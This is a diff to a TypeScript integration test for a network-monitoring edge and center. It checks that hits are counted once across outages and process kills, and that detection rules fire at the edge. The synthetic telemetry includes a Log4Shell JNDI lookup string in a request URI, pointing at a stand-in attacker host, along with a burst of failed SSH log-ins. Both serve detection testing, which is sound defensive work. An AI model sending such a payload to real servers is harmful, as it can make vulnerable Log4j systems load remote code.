@@ -2,7 +2,9 @@
  * A real center and a real edge, with a line between them that is cut for an hour of traffic. The edge is killed while
  * telemetry comes in, and between its sending and the center's answer; the center is killed after it has taken and
  * before it has answered. In the end every hit is counted, once; meanwhile the edge went on matching, also after starts
- * without the center; and no byte that left had a record in it, nor any that came another member.
+ * without the center; and no byte that left had a record in it, nor any that came another member. The center's rules and
+ * detectors run at the edge: what they find is found once and warns as if it had been found at the center, and what a
+ * detector had seen before a kill counts after it.
  */
 import { type ChildProcess, spawn } from "node:child_process";
 import { mkdirSync, writeFileSync } from "node:fs";
@@ -147,24 +149,65 @@ interface Status {
   readonly hits: number;
   readonly exchange: { readonly trouble: string };
   readonly set: { readonly indicators: number };
+  readonly detection: { readonly version: string; readonly rules: number };
   readonly outbox: { readonly bytes: number; readonly dropped: number };
+}
+interface Found {
+  readonly rule: { readonly title: string };
+  readonly subject: { readonly value: string } | null;
+  readonly count: number;
 }
 const statusOf = async (edge: RunningEdge): Promise<Status> =>
   (await (await fetch(`${edge.address}/status.json`)).json()) as Status;
 
+const attacker = "198.51.100.77";
+const guesser = "198.51.100.88";
+/** Both are taken in while the edge is killed; of the log-ins some come before and some after. */
+const attackMinute = 30;
+const guesses = { from: 15, to: 21, perMinute: 4 };
+
+/** A request that a rule knows, and log-ins of which a detector says when there are ten, and again at twenty. */
+function attacks(minute: number): readonly object[] {
+  const from = (source: string, line: number) => ({
+    ts: startS + minute * 60 + line,
+    uid: `${rawMark}${minute}y${line}`,
+    "id.orig_h": source,
+    "id.orig_p": 50_000 + line,
+    "id.resp_h": "192.0.2.2",
+  });
+  const uri = `/?q=\${jndi:ldap://${attacker}/a}`;
+  return [
+    ...(minute === attackMinute
+      ? [{ _path: "http", ...from(attacker, 1), "id.resp_p": 80, method: "GET", host: "192.0.2.2", uri }]
+      : []),
+    ...(minute < guesses.from || minute > guesses.to
+      ? []
+      : Array.from({ length: guesses.perMinute }, (_, line) => ({
+          _path: "ssh",
+          ...from(guesser, line),
+          "id.resp_p": 22,
+          auth_success: false,
+          auth_attempts: 1,
+        }))),
+  ];
+}
+
 const telemetry = (minute: number): string =>
-  `${Array.from({ length: linesPerMinute }, (_, line) =>
-    JSON.stringify({
-      _path: "conn",
-      ts: startS + minute * 60 + line / 10,
-      uid: `${rawMark}${minute}x${line}`,
-      "id.orig_h": `192.0.2.${line % 5}`,
-      "id.orig_p": 40_000 + line,
-      "id.resp_h": line % hostileEvery === 0 ? "203.0.113.66" : "198.51.100.9",
-      "id.resp_p": 443,
-      proto: "tcp",
-    }),
-  ).join("\n")}\n`;
+  `${[
+    ...attacks(minute).map((record) => JSON.stringify(record)),
+    ...Array.from({ length: linesPerMinute }, (_, line) =>
+      JSON.stringify({
+        _path: "conn",
+        ts: startS + minute * 60 + line / 10,
+        uid: `${rawMark}${minute}x${line}`,
+        "id.orig_h": `192.0.2.${line % 5}`,
+        "id.orig_p": 40_000 + line,
+        "id.resp_h": line % hostileEvery === 0 ? "203.0.113.66" : "198.51.100.9",
+        "id.resp_p": 443,
+        proto: "tcp",
+      }),
+    ),
+  ].join("\n")}\n`;
 
 async function post(edge: RunningEdge, minute: number): Promise<number> {
   const answer = await fetch(`${edge.address}/ingest`, {
@@ -219,6 +262,7 @@ test("an hour without the center and kills on both sides: every hit counts, once
   writeFileSync(join(folder, "token"), token);
   let edge = await startEdge(at);
   await expect.poll(async () => (await statusOf(edge)).set.indicators, { timeout: 60_000 }).toBe(2);
+  expect((await statusOf(edge)).detection.rules).toBeGreaterThan(30);
 
   line.isCut = true;
   for (let minute = 0; minute < minutes; minute++) {
@@ -259,12 +303,19 @@ test("an hour without the center and kills on both sides: every hit counts, once
   const wanted = (minutes * linesPerMinute) / hostileEvery;
   await expect
     .poll(() => askCenter<object>(data, "GET", "/totals"), { timeout: 120_000, interval: 1000 })
-    .toMatchObject({ sighted: wanted, warnings: 1, events: 0 });
+    .toMatchObject({ sighted: wanted, warnings: 2, events: 0 });
   await expect.poll(async () => (await statusOf(edge)).outbox.bytes, { timeout: 60_000 }).toBe(0);
   expect((await statusOf(edge)).outbox.dropped).toBe(0);
   // What was sent again by either side is known: it stays what it is.
   expect(await post(edge, 3)).toBe(200);
   expect(breakwaterJson<object>(["totals", "--data", data])).toMatchObject({ sighted: wanted });
+  const found = breakwaterJson<{ rows: readonly Found[] }>(["detection", "list", "--data", data]).rows;
+  expect(
+    found.map(({ rule, subject, count }) => `${rule.title}, ${subject?.value}: ${count}`).sort(),
+  ).toEqual([
+    `Log4Shell: a request asks Log4j to load code, ${attacker}: 1`,
+    `Passwords are tried, ${guesser}: 20`,
+  ]);
   expect(line.up).not.toContain(rawMark);
   expect(line.up).not.toContain("198.51.100.9");
   expect(line.down).not.toContain("Secretive");
